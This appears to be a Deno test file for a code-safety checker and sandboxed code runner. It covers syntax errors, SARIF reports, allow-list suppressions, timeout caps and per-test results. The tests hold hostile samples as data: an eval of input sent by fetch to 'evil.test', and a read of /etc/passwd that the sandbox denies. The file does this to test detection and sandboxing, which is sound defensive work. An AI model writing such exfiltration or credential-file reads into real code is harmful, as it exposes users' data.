/**
 * check_code and run_sandboxed as operations: validation, limits capped by
 * the config, formats, the allow-list file, and TypeScript tests.
 */
import assert from "node:assert/strict";
import type { z } from "zod";
import { invoke, testContext } from "../../src/core/mod.ts";
import { checkCode, runSandboxed } from "../../src/sandbox/mod.ts";
import { makeWorkspace, removeWorkspace } from "../_support.ts";

type CheckInput = z.input<typeof checkCode.input>;
type RunInput = z.input<typeof runSandboxed.input>;

async function check(root: string, input: CheckInput) {
  return await invoke(checkCode, input, await testContext(root));
}

async function run(root: string, input: RunInput) {
  return await invoke(runSandboxed, input, await testContext(root));
}

Deno.test("check_code: syntax errors and safety findings of a snippet, as text and SARIF", async () => {
  const root = await makeWorkspace();
  try {
    const out = await check(root, {
      code: 'const x = eval(input;\nfetch("https://evil.test/" + x);\n',
      language: "typescript",
    });
    assert.equal(out.ok, false);
    assert.equal(out.counts.syntaxErrors, 1);
    const [file] = out.files;
    assert.equal(file!.path, "<snippet>");
    assert.deepEqual(
      file!.syntax.map((d) => [d.line, d.column, d.code]),
      [[1, 21, "TS1005"]],
    );
    assert.deepEqual(
      file!.findings.map((f) => [f.ruleId, f.line, f.column]),
      [["dynamic-code/eval", 1, 11], ["network/fetch", 2, 1]],
    );
    assert.match(out.report, /^<snippet>:1:21 error syntax\/TS1005: '\)' expected\.$/m);
    assert.match(out.report, /^<snippet>:1:11 error dynamic-code\/eval: /m);
    assert.match(out.report, /\n1 syntax errors, 1 errors, 1 warnings, 0 info \(0 suppressed\)$/);

    const sarif = JSON.parse(
      (await check(root, {
        code: "eval(a)\n",
        language: "javascript",
        format: "sarif",
      })).report,
    );
    assert.equal(sarif.version, "2.1.0");
    assert.equal(sarif.runs[0].results[0].ruleId, "dynamic-code/eval");
    assert.equal(sarif.runs[0].results[0].locations[0].physicalLocation.region.startLine, 1);
  } finally {
    await removeWorkspace(root);
  }
});

Deno.test("check_code: workspace files by glob, with a justified allow-list entry", async () => {
  const root = await makeWorkspace({
    "src/client.ts": 'export const get = () => fetch("https://api.example.com/x");\n',
    "src/clean.ts": "export const add = (a: number, b: number): number => a + b;\n",
    "notes.md": "eval(x)\n",
    ".codegen-safety.json": JSON.stringify({
      version: 1,
      suppress: [{
        rule: "network/fetch",
        path: "src/client.ts",
        justification: "calls our own documented API",
      }],
    }),
  });
  try {
    const out = await check(root, { files: ["src/**"] });
    assert.deepEqual(out.files.map((f) => f.path), ["src/clean.ts", "src/client.ts"]);
    const fetchFinding = out.files[1]!.findings[0]!;
    assert.equal(fetchFinding.ruleId, "network/fetch");
    assert.deepEqual(fetchFinding.suppressed, { justification: "calls our own documented API" });
    assert.equal(out.counts.suppressed, 1);
    assert.equal(out.ok, true);
    await assert.rejects(
      check(root, { files: ["docs/**"] }),
      (error: Error & { code?: string }) =>
        error.code === "USAGE" && /No TypeScript/.test(error.message),
    );
    await Deno.writeTextFile(
      `${root}/.codegen-safety.json`,
      '{"version": 1, "suppress": [{"rule": "network/fetch"}]}',
    );
    await assert.rejects(
      check(root, { files: ["src/**"] }),
      (error: Error) => /\.codegen-safety\.json/.test(error.message),
    );
  } finally {
    await removeWorkspace(root);
  }
});

Deno.test("check_code: either code or files, and code needs a language", async () => {
  const root = await makeWorkspace();
  try {
    await assert.rejects(
      check(root, {}),
      (error: Error & { code?: string }) =>
        error.code === "USAGE" && error.message === "Give either `code` or `files`",
    );
    await assert.rejects(
      check(root, { code: "1" }),
      (error: Error & { code?: string }) =>
        error.code === "USAGE" && /Say which language/.test(error.message),
    );
  } finally {
    await removeWorkspace(root);
  }
});

Deno.test("run_sandboxed: TypeScript runs with stdin; limits are capped by the config", async () => {
  const root = await makeWorkspace({
    "codegen-lab.json": JSON.stringify({ sandbox: { timeoutMs: 1500, memoryMb: 128 } }),
  });
  try {
    const ok = await run(root, {
      language: "typescript",
      code:
        "const text = await new Response(Deno.stdin.readable).text();\nconsole.log(text.toUpperCase());\n",
      stdin: "hello",
    });
    assert.equal(ok.stdout, "HELLO\n");
    assert.equal(ok.exitCode, 0);
    // Asking for more than the config allows gets the config's limit.
    const slow = await run(root, {
      language: "javascript",
      code: "while (true) {}",
      timeoutMs: 60_000,
    });
    assert.equal(slow.timedOut, true);
    assert.equal(slow.limits.timeoutMs, 1500);
    assert.ok(slow.durationMs < 5000, `${slow.durationMs}`);
    const denied = await run(root, {
      language: "typescript",
      code: 'Deno.readTextFileSync("/etc/passwd");',
    });
    assert.equal(denied.exitCode, 1);
    assert.match(denied.stderr, /NotCapable: Requires read access to "\/etc\/passwd"/);
  } finally {
    await removeWorkspace(root);
  }
});

Deno.test("run_sandboxed: TypeScript tests report pass and fail per test", async () => {
  const root = await makeWorkspace();
  try {
    const out = await run(root, {
      language: "typescript",
      code: "export function add(a: number, b: number): number {\n  return a + b;\n}\n",
      tests: [
        'Deno.test("adds", () => { if (add(1, 2) !== 3) throw new Error("bad sum"); });',
        'Deno.test("wrong", () => { if (add(2, 2) !== 5) throw new Error("expected 5, got 4"); });',
      ].join("\n"),
    });
    assert.deepEqual(out.tests, [
      { name: "adds", passed: true },
      { name: "wrong", passed: false, message: "Error: expected 5, got 4" },
    ]);
    const imported = await run(root, {
      language: "typescript",
      code: "export const two = 2;\n",
      tests:
        'import { two } from "./main.ts";\nDeno.test("two", () => { if (two !== 2) throw new Error("no"); });\n',
    });
    assert.deepEqual(imported.tests, [{ name: "two", passed: true }]);
  } finally {
    await removeWorkspace(root);
  }
});
